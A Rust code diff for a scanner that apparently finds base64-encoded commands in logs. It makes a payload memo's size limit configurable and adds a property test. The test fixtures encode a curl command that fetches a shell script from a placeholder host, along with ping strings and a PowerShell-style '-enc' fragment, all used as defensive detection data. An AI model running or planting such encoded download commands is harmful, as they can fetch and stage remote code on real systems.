@@ -323,12 +323,18 @@ impl Scanner {
 /// the same encoded command on every line of a log, is then scanned once.
 /// Every detection of a payload takes the span of its base64 token, so
 /// the detections of a repeat differ only in that span.
-#[derive(Default)]
 struct PayloadMemo {
     /// One map per depth, from payload text to its detections.
     scanned: Vec<HashMap<Box<str>, Box<[Detection]>, RandomState>>,
     /// Bytes held by the texts and detections.
     held: usize,
+    max_bytes: usize,
+}
+
+impl Default for PayloadMemo {
+    fn default() -> PayloadMemo {
+        PayloadMemo { scanned: Vec::new(), held: 0, max_bytes: MEMO_MAX_BYTES }
+    }
 }
 
 /// Most bytes a [`PayloadMemo`] holds; past it, new payloads are scanned
@@ -350,7 +356,7 @@ impl PayloadMemo {
         });
         let held =
             self.held.saturating_add(text.len()).saturating_add(detections);
-        if held > MEMO_MAX_BYTES {
+        if held > self.max_bytes {
             return;
         }
         let depth = usize::from(depth);
@@ -724,6 +730,47 @@ mod tests {
             }));
         }
         assert_eq!(scanner.scan(text.as_bytes()).detections, expected);
+    }
+
+    /// Returns the detections of `text`, scanned as one window with the
+    /// payload memo or without it.
+    fn scan_memo(text: &[u8], memo: bool) -> Vec<Detection> {
+        let mut memo = PayloadMemo {
+            max_bytes: if memo { MEMO_MAX_BYTES } else { 0 },
+            ..PayloadMemo::default()
+        };
+        let mut found = Vec::new();
+        Scanner::default().scan_window(text, 0, None, &mut memo, &mut |d| {
+            found.push(d.detection().clone())
+        });
+        found
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn memo_equals_rescanning(
+            parts in proptest::collection::vec(
+                proptest::sample::select(vec![
+                    // `curl http://inner.example.net/x.sh`
+                    "Y3VybCBodHRwOi8vaW5uZXIuZXhhbXBsZS5uZXQveC5zaA==",
+                    // `echo ` and the token above
+                    "ZWNobyBZM1Z5YkNCb2RIUndPaTh2YVc1dVpYSXVaWGhoYlhCc1pTNXVaWFF2ZUM1emFBPT0=",
+                    // `ping 10.1.2.3`
+                    "cGluZyAxMC4xLjIuMw==",
+                    // `ping 10.1.2.3` in UTF-16LE
+                    "cABpAG4AZwAgADEAMAAuADEALgAyAC4AMwA=",
+                    " ", "\n", "=", "x", "-enc ", "(", ")",
+                ]),
+                0..24,
+            ),
+        ) {
+            let text = parts.concat();
+            let with = scan_memo(text.as_bytes(), true);
+            proptest::prop_assert_eq!(
+                &with,
+                &scan_memo(text.as_bytes(), false)
+            );
+        }
     }
 
     #[test]
